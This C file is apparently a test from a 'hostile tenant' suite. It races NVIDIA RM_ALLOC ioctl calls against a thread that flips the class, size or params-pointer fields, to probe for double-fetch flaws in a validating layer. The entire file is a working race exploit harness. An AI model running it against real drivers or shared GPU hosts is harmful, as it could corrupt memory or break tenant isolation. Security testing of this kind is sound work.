// SPDX-License-Identifier: GPL-2.0
/*
 * A hostile tenant's race on its own ioctl params (tests/vm/hostile).
 *
 *   attack_flip FD CLIENT PARENT SIZE CLASS_A CLASS_B MIN_S MAX_S ATTEMPTS
 *               [xfer] [class|size|ptr]
 *
 * One thread allocates with NV_ESC_RM_ALLOC (NVOS21, or wrapped in
 * IOCTL_XFER_CMD) objects of class CLASS_A with NV_MEMORY_ALLOCATION_PARAMS
 * of SIZE bytes, under fresh handles, and keeps what it gets; another thread
 * flips a field of the params as fast as it can:
 *   class  hClass between CLASS_A and CLASS_B (the default);
 *   size   paramsSize between 0 (as libcuda sends it) and 0xffffffff;
 *   ptr    pAllocParms between the SIZE-byte params and params asking for
 *          1 GiB.
 * It runs for at least MIN_S seconds and ATTEMPTS calls (at most MAX_S s),
 * then prints "attempts N ok N flips N".
 */
#include <pthread.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <time.h>

#include "attack.h"

struct xfer {
	uint32_t cmd, size;
	uint64_t ptr;
};

static struct nvos21 params;
static atomic_int stop;
static uint32_t class_a, class_b;
/* NV_MEMORY_ALLOCATION_PARAMS: the one allocated, and one asking for 1 GiB. */
static unsigned char mem[128] __attribute__((aligned(8)));
static unsigned char big[128] __attribute__((aligned(8)));

/* The field the flipper rewrites (32 or 64 bits) and the two values it alternates. */
static struct {
	volatile uint32_t *u32;
	volatile uint64_t *u64;
	uint64_t a, b;
} flip;

static void *flipper(void *arg)
{
	unsigned long *flips = arg;

	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		if (flip.u32) {
			*flip.u32 = (uint32_t)flip.b;
			*flip.u32 = (uint32_t)flip.a;
		} else {
			*flip.u64 = flip.b;
			*flip.u64 = flip.a;
		}
		(*flips)++;
	}
	return NULL;
}

int main(int argc, char **argv)
{
	unsigned long attempts = 0, ok = 0, flips = 0, want;
	const char *field = "class";
	double start, min_s, max_s;
	struct xfer x;
	int fd, use_xfer = 0, i;
	unsigned long cmd;
	pthread_t t;
	void *arg;

	if (argc < 10)
		return 2;
	fd = atoi(argv[1]);
	class_a = strtoul(argv[5], NULL, 0);
	class_b = strtoul(argv[6], NULL, 0);
	min_s = atof(argv[7]);
	max_s = atof(argv[8]);
	want = strtoul(argv[9], NULL, 0);
	for (i = 10; i < argc; i++) {
		if (!strcmp(argv[i], "xfer"))
			use_xfer = 1;
		else if (!strcmp(argv[i], "class") || !strcmp(argv[i], "size") ||
			 !strcmp(argv[i], "ptr"))
			field = argv[i];
		else
			return 2;
	}

	memset(mem, 0, sizeof(mem));
	memset(big, 0, sizeof(big));
	*(uint64_t *)(big + 64) = 1ull << 30;
	params.h_root = strtoul(argv[2], NULL, 0);
	params.h_parent = strtoul(argv[3], NULL, 0);
	params.h_class = class_a;
	params.p_alloc_parms = (uintptr_t)mem;
	params.params_size = sizeof(mem);
	if (!strcmp(field, "class"))
		flip = (typeof(flip)){ .u32 = &params.h_class, .a = class_a, .b = class_b };
	else if (!strcmp(field, "size"))
		flip = (typeof(flip)){ .u32 = &params.params_size, .a = 0, .b = 0xffffffffu };
	else
		flip = (typeof(flip)){ .u64 = &params.p_alloc_parms, .a = (uintptr_t)mem,
				       .b = (uintptr_t)big };
	x.cmd = NV_ESC_RM_ALLOC;
	x.size = sizeof(params);
	x.ptr = (uintptr_t)&params;
	cmd = use_xfer ? _IOWR(NV_IOCTL_MAGIC, NV_ESC_IOCTL_XFER_CMD, struct xfer) :
			 _IOWR(NV_IOCTL_MAGIC, NV_ESC_RM_ALLOC, struct nvos21);
	arg = use_xfer ? (void *)&x : (void *)&params;

	if (pthread_create(&t, NULL, flipper, &flips))
		return 1;
	start = now();
	for (;;) {
		double el = now() - start;

		if (el >= max_s || (el >= min_s && attempts >= want))
			break;
		/* NV_MEMORY_ALLOCATION_PARAMS.size, at 64. */
		*(uint64_t *)(mem + 64) = strtoull(argv[4], NULL, 0);
		params.h_new = 0xA0000000u + attempts;
		params.status = 0xffffffffu;
		attempts++;
		if (!ioctl(fd, cmd, arg) && params.status == 0)
			ok++;
	}
	atomic_store(&stop, 1);
	pthread_join(t, NULL);
	printf("attempts %lu ok %lu flips %lu\n", attempts, ok, flips);
	return 0;
}
